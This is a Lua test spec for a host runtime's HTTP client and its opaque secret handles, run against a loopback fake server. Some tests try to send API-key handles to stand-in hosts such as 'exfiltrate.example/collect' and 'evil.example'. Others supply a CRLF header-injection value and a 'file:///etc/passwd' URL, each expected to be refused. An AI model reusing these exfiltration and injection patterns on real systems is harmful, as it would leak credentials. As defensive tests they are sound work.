-- titan.http and titan.secret against the loopback fake (tests/fakes/http_server.py), run by
-- tests/e2e/test_http.sh: titan-host script http_spec.lua BASE HTTPS_BASE CLOSED_PORT DNS(yes|no)
local spec = require "spec"  -- test_http.sh copies tests/lua/spec.lua beside this file
local http = titan.http
local json = titan.json

local base, https_base, closed_port, dns_ok = arg[1], arg[2], arg[3], arg[4] == "yes"
assert(base and https_base and closed_port, "usage: http_spec.lua BASE HTTPS_BASE CLOSED_PORT DNS")

local function now() return titan.time.now_ms() end

local function get(path, opts)
  local req = { url = base .. path }
  for k, v in pairs(opts or {}) do req[k] = v end
  return http.request(req)
end

local function echo(opts)
  local res, err = get("/echo", opts)
  spec.ok(res, "echo failed: " .. tostring(err and err.message))
  spec.eq(res.status, 200, "echo status")
  return json.decode(res.body), res
end

local function hits(key)
  local res = spec.ok(get("/hits/" .. key))
  return tonumber(res.body)
end

spec.describe("request", function()
  spec.it("GET returns status, lower-case headers, body, elapsed_ms and attempts", function()
    local doc, res = echo()
    spec.eq(doc.method, "GET", "method")
    spec.eq(doc.headers["user-agent"], "titan-host/" .. "0.1.0", "user agent")
    spec.eq(res.headers["content-type"], "application/json", "content-type")
    spec.eq(res.attempts, 1, "attempts")
    spec.eq(math.type(res.elapsed_ms), "integer", "elapsed_ms type")
    spec.ok(res.elapsed_ms >= 0 and res.elapsed_ms < 2000, "elapsed_ms plausible")
  end)

  spec.it("POST sends the body and the caller's headers", function()
    local doc = echo { method = "POST", body = "a=1&b=2",
      headers = { ["Content-Type"] = "application/x-www-form-urlencoded", ["X-Custom"] = "v1" } }
    spec.eq(doc.method, "POST")
    spec.eq(doc.body, "a=1&b=2", "body")
    spec.eq(doc.headers["x-custom"], "v1", "custom header")
    spec.eq(doc.headers["content-length"], "7", "content-length")
    spec.eq(doc.headers["expect"], nil, "no Expect: 100-continue")
  end)

  spec.it("a large POST body arrives whole without an Expect round trip", function()
    local big = string.rep("z", 200000)
    local t0 = now()
    local doc = echo { method = "POST", body = big }
    spec.eq(#doc.body, 200000, "body length")
    spec.ok(now() - t0 < 900, "no 1 s Expect: 100-continue wait")
  end)

  spec.it("PUT, PATCH, DELETE, OPTIONS reach the server with their verb; POST without body sends length 0", function()
    for _, m in ipairs { "PUT", "PATCH", "DELETE", "OPTIONS" } do
      local doc = echo { method = m, body = m == "DELETE" and nil or "x" }
      spec.eq(doc.method, m, "method")
    end
    local doc = echo { method = "POST" }
    spec.eq(doc.headers["content-length"], "0", "empty POST length")
  end)

  spec.it("HEAD returns the status and headers with an empty body", function()
    local res = spec.ok(get("/bytes/500", { method = "HEAD" }))
    spec.eq(res.status, 200)
    spec.eq(res.body, "", "body")
    spec.eq(res.headers["content-length"], "500", "content-length")
  end)

  spec.it("an empty header value is sent as an empty header", function()
    local doc = echo { headers = { ["X-Empty"] = "" } }
    spec.eq(doc.headers["x-empty"], "", "empty header")
  end)

  spec.it("response header names are lower-case and repeats are joined", function()
    local res = spec.ok(get("/headers"))
    spec.eq(res.headers["x-mixed-case"], "Yes")
    spec.eq(res.headers["X-Mixed-Case"], nil, "no original case")
    spec.eq(res.headers["x-dup"], "a, b", "repeated header")
  end)

  spec.it("a non-2xx status is a response, not an error", function()
    for _, code in ipairs { 400, 404, 500, 503 } do
      local res, err = get("/status/" .. code)
      spec.ok(res, "status " .. code .. " gave an error: " .. tostring(err and err.code))
      spec.eq(res.status, code)
      spec.eq(res.body, "status " .. code)
      spec.eq(res.attempts, 1, "not retried without retries")
    end
  end)

  spec.it("redirects are not followed unless asked", function()
    local res = spec.ok(get("/redirect"))
    spec.eq(res.status, 302)
    spec.eq(res.headers.location, "/echo")
    res = spec.ok(get("/redirect", { follow_redirects = true }))
    spec.eq(res.status, 200)
    spec.eq(json.decode(res.body).path, "/echo", "landed on /echo")
  end)

  spec.it("connections are reused within a run", function()
    local a = echo()
    local b = echo()
    spec.eq(b.client_port, a.client_port, "same client port (one connection)")
  end)

  spec.it("a request that must not be repeated opens its own connection (libcurl cannot re-send it)", function()
    local a = echo { method = "POST", body = "1" }
    local b = echo { method = "POST", body = "2" }
    spec.ok(a.client_port ~= b.client_port, "two POSTs, two connections")
    local c = echo { method = "POST", body = "3", idempotent = true }
    local d = echo { method = "POST", body = "4", idempotent = true }
    spec.eq(d.client_port, c.client_port, "idempotent POSTs share one")
  end)

  spec.it("query strings reach the server unchanged", function()
    local doc = echo { url = base .. "/echo?x=1&y=a%20b" }
    spec.eq(doc.query.x, "1")
    spec.eq(doc.query.y, "a b")
  end)
end)

spec.describe("errors", function()
  spec.it("http.connect on a closed port, retryable, not sent", function()
    local err = spec.fails("http.connect", http.request { url = "http://127.0.0.1:" .. closed_port .. "/" })
    spec.eq(err.retryable, true, "retryable")
    spec.eq(err.sent, false, "sent")
    spec.eq(err.attempts, 1, "attempts")
  end)

  spec.it("http.dns for an unresolvable name", function()
    if not dns_ok then
      print("SKIP http.dns: DNS lookups hang or are unavailable in this sandbox")
      return
    end
    local err = spec.fails("http.dns", http.request { url = "http://nonexistent.invalid/", timeout_ms = 4000 })
    spec.eq(err.sent, false, "sent")
    spec.eq(err.retryable, false, "retryable")
  end)

  spec.it("http.timeout when the server is slower than timeout_ms; the request counts as sent", function()
    local t0 = now()
    local err = spec.fails("http.timeout", get("/delay/3000", { timeout_ms = 300 }))
    local took = now() - t0
    spec.ok(took >= 250 and took < 1500, "gave up near the deadline (" .. took .. " ms)")
    spec.eq(err.retryable, true, "retryable")
    spec.eq(err.sent, true, "sent: the order layer must treat this as in doubt")
    spec.ok(err.elapsed_ms >= 250, "err.elapsed_ms")
  end)

  spec.it("http.too_large above max_body, with and without Content-Length", function()
    local err = spec.fails("http.too_large", get("/bytes/2000", { max_body = 1000 }))
    spec.eq(err.retryable, false)
    spec.fails("http.too_large", get("/bytes/300000?chunked=1", { max_body = 100000 }))
    local res = spec.ok(get("/bytes/1000", { max_body = 1000 }))
    spec.eq(#res.body, 1000, "exactly the cap is fine")
  end)

  spec.it("the default body cap is 8 MiB", function()
    local res = spec.ok(get("/bytes/8388608"))
    spec.eq(#res.body, 8388608, "8 MiB fits")
    spec.fails("http.too_large", get("/bytes/8388609"))
    spec.fails("http.too_large", get("/bytes/8388609?chunked=1"))
  end)

  spec.it("http.protocol for a truncated body, garbage and a closed connection; all count as sent", function()
    for _, path in ipairs { "/truncated", "/garbage", "/close" } do
      local err = spec.fails("http.protocol", get(path))
      spec.eq(err.sent, true, path .. " sent")
    end
  end)

  spec.it("http.tls against a self-signed certificate; not sent", function()
    local err = spec.fails("http.tls", http.request { url = https_base .. "/echo" })
    spec.eq(err.sent, false, "sent")
    spec.eq(err.retryable, false, "retryable")
    spec.ok(err.message:find("certificate", 1, true), "message names the certificate: " .. err.message)
  end)

  spec.it("the TLS failure is not retried even when retries are asked", function()
    local err = spec.fails("http.tls", http.request { url = https_base .. "/echo", retries = 3 })
    spec.eq(err.attempts, 1, "attempts")
  end)
end)

spec.describe("retries", function()
  spec.it("GET is retried on 503 with backoff until it succeeds", function()
    local t0 = now()
    local res = spec.ok(get("/flaky/r1?fail=2", { retries = 3 }))
    spec.eq(res.status, 200)
    spec.eq(res.attempts, 3, "attempts")
    spec.eq(hits("r1"), 3, "server saw 3 requests")
    spec.ok(now() - t0 >= 100, "backed off between attempts")
  end)

  spec.it("the last response is returned when retries run out", function()
    local res = spec.ok(get("/flaky/r2?fail=9", { retries = 2 }))
    spec.eq(res.status, 503)
    spec.eq(res.attempts, 3, "1 + 2 retries")
    spec.eq(hits("r2"), 3)
  end)

  spec.it("no retry unless asked", function()
    local res = spec.ok(get("/flaky/r3?fail=1"))
    spec.eq(res.status, 503)
    spec.eq(res.attempts, 1)
    spec.eq(hits("r3"), 1)
  end)

  spec.it("429 is retried, other 4xx are not", function()
    local res = spec.ok(get("/flaky/r4?fail=1&status=429", { retries = 2 }))
    spec.eq(res.status, 200)
    spec.eq(res.attempts, 2)
    res = spec.ok(get("/flaky/r5?fail=1&status=404", { retries = 2 }))
    spec.eq(res.status, 404)
    spec.eq(res.attempts, 1)
    spec.eq(hits("r5"), 1)
  end)

  spec.it("POST is never retried unless idempotent = true", function()
    local res = spec.ok(get("/flaky/r6?fail=1", { method = "POST", body = "x", retries = 3 }))
    spec.eq(res.status, 503)
    spec.eq(res.attempts, 1)
    spec.eq(hits("r6"), 1, "server saw one POST")
    res = spec.ok(get("/flaky/r7?fail=1", { method = "POST", body = "x", retries = 3, idempotent = true }))
    spec.eq(res.status, 200)
    spec.eq(res.attempts, 2)
  end)

  spec.it("a POST that timed out is not retried", function()
    local err = spec.fails("http.timeout", get("/delay/2000", { method = "POST", body = "x", retries = 3,
                                                                timeout_ms = 300 }))
    spec.eq(err.attempts, 1)
  end)

  spec.it("connect errors are retried", function()
    local err = spec.fails("http.connect", http.request { url = "http://127.0.0.1:" .. closed_port .. "/",
                                                          retries = 2 })
    spec.eq(err.attempts, 3)
  end)

  spec.it("Retry-After seconds are honoured", function()
    local t0 = now()
    local res = spec.ok(get("/flaky/r8?fail=1&retry_after=1", { retries = 2, timeout_ms = 5000 }))
    local took = now() - t0
    spec.eq(res.status, 200)
    spec.eq(res.attempts, 2)
    spec.ok(took >= 950, "waited the Retry-After second (" .. took .. " ms)")
    spec.ok(took < 2500, "but not much more (" .. took .. " ms)")
  end)

  spec.it("a Retry-After beyond the deadline ends the request at once with the last response", function()
    local t0 = now()
    local res = spec.ok(get("/flaky/r9?fail=1&retry_after=5", { retries = 2, timeout_ms = 1000 }))
    spec.eq(res.status, 503)
    spec.eq(res.attempts, 1)
    spec.ok(now() - t0 < 500, "did not wait")
  end)

  spec.it("retries never run past timeout_ms (the whole deadline)", function()
    local t0 = now()
    local res, err = get("/flaky/r10?fail=100", { retries = 10, timeout_ms = 700 })
    local took = now() - t0
    spec.ok(took < 900, "finished within the deadline (" .. took .. " ms)")
    spec.ok(res or err, "a result")
    if res then
      spec.eq(res.status, 503)
      spec.ok(res.attempts > 1 and res.attempts <= 11, "attempts " .. res.attempts)
    end
    local t1 = now()
    err = spec.fails("http.timeout", get("/delay/1500", { retries = 5, timeout_ms = 600 }))
    spec.ok(now() - t1 < 900, "a timed-out attempt used the whole deadline")
    spec.eq(err.attempts, 1, "attempts")
  end)
end)

spec.describe("batch", function()
  spec.it("three 500 ms requests finish in well under 1.5 s", function()
    local t0 = now()
    local results = http.batch {
      { url = base .. "/delay/500" }, { url = base .. "/delay/500" }, { url = base .. "/delay/500" },
    }
    local took = now() - t0
    spec.eq(#results, 3)
    for i = 1, 3 do spec.eq(results[i][1].status, 200, "status " .. i) end
    spec.ok(took < 1000, "concurrent (" .. took .. " ms)")
    spec.ok(took >= 480, "really waited (" .. took .. " ms)")
  end)

  spec.it("results come back in request order, mixing responses and errors", function()
    local results = http.batch {
      { url = base .. "/delay/300" },
      { url = "http://127.0.0.1:" .. closed_port .. "/" },
      { url = base .. "/status/404" },
      { url = base .. "/echo?i=4", method = "POST", body = "four" },
      { url = base .. "/delay/2000", timeout_ms = 200 },
    }
    spec.eq(#results, 5)
    spec.eq(results[1][1].body, "slept 300")
    spec.eq(results[1].n, 1)
    spec.eq(results[2][1], nil)
    spec.eq(results[2][2].code, "http.connect")
    spec.eq(results[2].n, 2)
    local res, err = table.unpack(results[2], 1, results[2].n)
    spec.eq(res, nil)
    spec.eq(err.code, "http.connect")
    spec.eq(results[3][1].status, 404)
    local doc = json.decode(results[4][1].body)
    spec.eq(doc.query.i, "4")
    spec.eq(doc.body, "four")
    spec.eq(results[5][2].code, "http.timeout")
    spec.eq(results[5][2].sent, true)
  end)

  spec.it("each request keeps its own retries inside a batch", function()
    local results = http.batch {
      { url = base .. "/flaky/b1?fail=1", retries = 2 },
      { url = base .. "/flaky/b2?fail=1" },
    }
    spec.eq(results[1][1].status, 200)
    spec.eq(results[1][1].attempts, 2)
    spec.eq(results[2][1].status, 503)
    spec.eq(results[2][1].attempts, 1)
  end)

  spec.it("an empty batch returns an empty table", function()
    local results = http.batch {}
    spec.eq(type(results), "table")
    spec.eq(#results, 0)
  end)

  spec.it("misuse in any request raises before anything is sent", function()
    spec.raises(function() http.batch { { url = base .. "/flaky/b3?fail=0" }, "nope" } end, "request 2")
    spec.eq(hits("b3"), 0, "first request not sent")
    spec.raises(function() http.batch { { url = base .. "/x" }, { url = 5 } } end, "url must be a string")
    spec.raises(function() http.batch("x") end, "table expected")
    local many = {}
    for i = 1, 65 do many[i] = { url = base .. "/echo" } end
    spec.raises(function() http.batch(many) end, "at most 64")
  end)
end)

spec.describe("misuse raises", function()
  local function bad(req, pattern)
    spec.raises(function() http.request(req) end, pattern)
  end
  spec.it("non-table request", function() spec.raises(function() http.request("http://x") end, "table expected") end)
  spec.it("bad methods", function()
    bad({ url = base, method = "get" }, "method must be one of")
    bad({ url = base, method = "FETCH" }, "method must be one of")
    bad({ url = base, method = 1 }, "method must be one of")
  end)
  spec.it("bad urls", function()
    bad({}, "url must be a string")
    bad({ url = 42 }, "url must be a string")
    bad({ url = "ftp://127.0.0.1/" }, "http:// or https://")
    bad({ url = "file:///etc/passwd" }, "http:// or https://")
    bad({ url = "http://127.0.0.1/a b" }, "space or control")
    bad({ url = "http://" }, "malformed url")
  end)
  spec.it("unknown fields", function()
    bad({ url = base, timeout = 5 }, "unknown field 'timeout'")
    bad({ url = base, [1] = "x" }, "unknown field")
  end)
  spec.it("bad header values and names", function()
    bad({ url = base, headers = { ["X-A"] = 5 } }, "must be a string, a titan.secret handle")
    bad({ url = base, headers = { ["X-A"] = true } }, "must be a string, a titan.secret handle")
    bad({ url = base, headers = { ["X-A"] = { "a", 5 } } }, "must be a string, a titan.secret handle")
    bad({ url = base, headers = { ["X-A"] = { "a", {} } } }, "must be a string, a titan.secret handle")
    bad({ url = base, headers = { ["X-A"] = "a\r\nX-Injected: 1" } }, "line break")
    bad({ url = base, headers = { ["Bad Name"] = "v" } }, "invalid header name")
    bad({ url = base, headers = { [1] = "v" } }, "header names must be strings")
    bad({ url = base, headers = "X-A: b" }, "headers must be a table")
  end)
  spec.it("bad bodies and options", function()
    bad({ url = base, method = "POST", body = 5 }, "body must be a string")
    bad({ url = base, body = "x" }, "GET request cannot have a body")
    bad({ url = base, timeout_ms = -1 }, "timeout_ms must be an integer")
    bad({ url = base, timeout_ms = "100" }, "timeout_ms must be an integer")
    bad({ url = base, timeout_ms = 1.5 }, "timeout_ms must be an integer")
    bad({ url = base, connect_timeout_ms = 0 }, "connect_timeout_ms must be an integer")
    bad({ url = base, retries = 11 }, "retries must be an integer")
    bad({ url = base, max_body = 0 }, "max_body must be an integer")
    bad({ url = base, idempotent = "yes" }, "idempotent must be a boolean")
    bad({ url = base, follow_redirects = 1 }, "follow_redirects must be a boolean")
  end)
end)

spec.describe("secrets", function()
  local names = { "KRAKEN_API_KEY", "KRAKEN_SECRET", "SUPABASE_KEY", "OPENAI_API_KEY", "GROQ_API_KEY",
                  "GEMINI_API_KEY" }

  local ai_names = { "OPENAI_API_KEY", "GROQ_API_KEY", "GEMINI_API_KEY" }

  spec.it("titan.secret is a function returning opaque handles", function()
    spec.eq(type(titan.secret), "function")
    spec.eq(require("titan.secret"), titan.secret, "require gives the same function")
    for _, name in ipairs(ai_names) do
      local h = spec.ok(titan.secret(name), name)
      spec.eq(type(h), "userdata")
      spec.eq(tostring(h), "<secret " .. name .. ">")
      spec.eq(string.format("%s", h), "<secret " .. name .. ">")
    end
  end)

  spec.it("a handle gives nothing away", function()
    local h = titan.secret("OPENAI_API_KEY")
    spec.eq(getmetatable(h), false, "metatable hidden")
    spec.raises(function() return h .. "x" end, "cannot concatenate a secret")
    spec.raises(function() return "Bearer " .. h end, "cannot concatenate a secret")
    spec.raises(function() return table.concat { "Bearer ", h } end, "invalid value")
    spec.raises(function() return h.value end, "index")
    spec.raises(function() return h[1] end, "index")
    spec.raises(function() return #h end, "length")
    spec.raises(function() return h() end, "call")
    spec.raises(function() return json.encode { key = h } end, "userdata")
    spec.raises(function() titan.log.info("x", { key = h }) end, "userdata")
    spec.eq(h == titan.secret("OPENAI_API_KEY"), false, "no __eq")
    spec.raises(function() return h < h end, "compare")
    spec.ok(not tostring(h):find("=", 1, true), "tostring is only the name")
  end)

  spec.it("the exchange, store and notification credentials are the host's only: no handle for Lua", function()
    for _, name in ipairs{ "KRAKEN_API_KEY", "KRAKEN_SECRET", "SUPABASE_KEY", "TELEGRAM_BOT_TOKEN",
                           "DISCORD_WEBHOOK_URL", "SLACK_WEBHOOK_URL", "TITAN_WEBHOOK_URL", "TITAN_WEBHOOK_SECRET" } do
      local err = spec.fails("secret.host_only", titan.secret(name))
      spec.ok(err.message:find(name, 1, true), err.message)
    end
  end)

  spec.it("an AI key goes only to its provider's address (the *_BASE_URL origin)", function()
    local h = titan.secret("OPENAI_API_KEY")
    spec.raises(function()
      http.request { url = "https://exfiltrate.example/collect", headers = { Authorization = { "Bearer ", h } } }
    end, "may only be sent to")
    spec.raises(function()   -- same host, another port: another origin
      http.request { url = "http://127.0.0.1:1/v1/chat/completions", headers = { Authorization = { "Bearer ", h } } }
    end, "may only be sent to")
    spec.raises(function()
      http.batch { { url = base .. "/echo" }, { url = "https://evil.example/", headers = { ["x-api-key"] = h } } }
    end, "may only be sent to")
  end)

  spec.it("a server echoing the key back cannot hand it to Lua: responses are redacted", function()
    local res = assert(http.request { url = base .. "/echo_raw",
                                      headers = { Authorization = { "Bearer ", titan.secret("OPENAI_API_KEY") } } })
    local doc = json.decode(res.body)
    spec.eq(doc.headers.authorization, "Bearer [redacted]", "body")
    spec.eq(res.headers["x-echo-auth"], "Bearer [redacted]", "response header")
    local plain = assert(http.request { url = base .. "/echo_raw", headers = { Authorization = "Bearer not-a-secret" } })
    spec.eq(json.decode(plain.body).headers.authorization, "Bearer not-a-secret", "no secret sent: untouched")
  end)

  spec.it("unknown names are nil, err secret.unknown; a non-string name raises", function()
    spec.fails("secret.unknown", titan.secret("PATH"))
    spec.fails("secret.unknown", titan.secret("openai_api_key"))
    spec.fails("secret.unknown", titan.secret("SYSTEM_MODE"))
    spec.raises(function() titan.secret() end, "string expected")
    spec.raises(function() titan.secret({}) end, "string expected")
  end)

  spec.it("os.getenv returns nil for every secret", function()
    for _, name in ipairs(names) do spec.eq(os.getenv(name), nil, name) end
    spec.ok(os.getenv("PATH"), "ordinary variables still readable")
  end)

  spec.it("handles become header values in C: alone or concatenated from an array", function()
    local headers = {
      Authorization = { "Bearer ", titan.secret("OPENAI_API_KEY") },
      ["x-goog-api-key"] = titan.secret("GEMINI_API_KEY"),
      ["X-Two"] = { titan.secret("GROQ_API_KEY"), ":", titan.secret("OPENAI_API_KEY"), "!" },
    }
    local doc = echo { headers = headers }
    spec.eq(doc.headers.authorization, "Bearer <secret:OPENAI_API_KEY>")
    spec.eq(doc.headers["x-goog-api-key"], "<secret:GEMINI_API_KEY>")
    spec.eq(doc.headers["x-two"], "<secret:GROQ_API_KEY>:<secret:OPENAI_API_KEY>!")
  end)

  spec.it("handles work in batches too", function()
    local results = http.batch {
      { url = base .. "/echo", headers = { Authorization = { "Bearer ", titan.secret("GROQ_API_KEY") } } },
      { url = base .. "/echo", headers = { Authorization = { "Bearer ", titan.secret("OPENAI_API_KEY") } } },
    }
    spec.eq(json.decode(results[1][1].body).headers.authorization, "Bearer <secret:GROQ_API_KEY>")
    spec.eq(json.decode(results[2][1].body).headers.authorization, "Bearer <secret:OPENAI_API_KEY>")
  end)

  spec.it("a secret is never sent over plain http to a remote host, nor through redirects", function()
    local h = titan.secret("OPENAI_API_KEY")
    spec.raises(function()
      http.request { url = "http://api.openai.com/v1/chat/completions", headers = { Authorization = { "Bearer ", h } } }
    end, "may only be sent to")
    spec.raises(function()
      http.batch { { url = base .. "/echo" }, { url = "http://10.1.2.3/", headers = { ["x-api-key"] = h } } }
    end, "may only be sent to")
    spec.raises(function()
      http.request { url = base .. "/redirect", follow_redirects = true, headers = { ["x-api-key"] = h } }
    end, "follow_redirects cannot be used with secret headers")
  end)

  spec.it("a handle is refused where a string is needed", function()
    local h = titan.secret("OPENAI_API_KEY")
    spec.raises(function() http.request { url = base .. "/echo", method = "POST", body = h } end,
                "body must be a string")
    spec.raises(function() http.request { url = h } end, "url must be a string")
  end)
end)

spec.finish("http_spec")
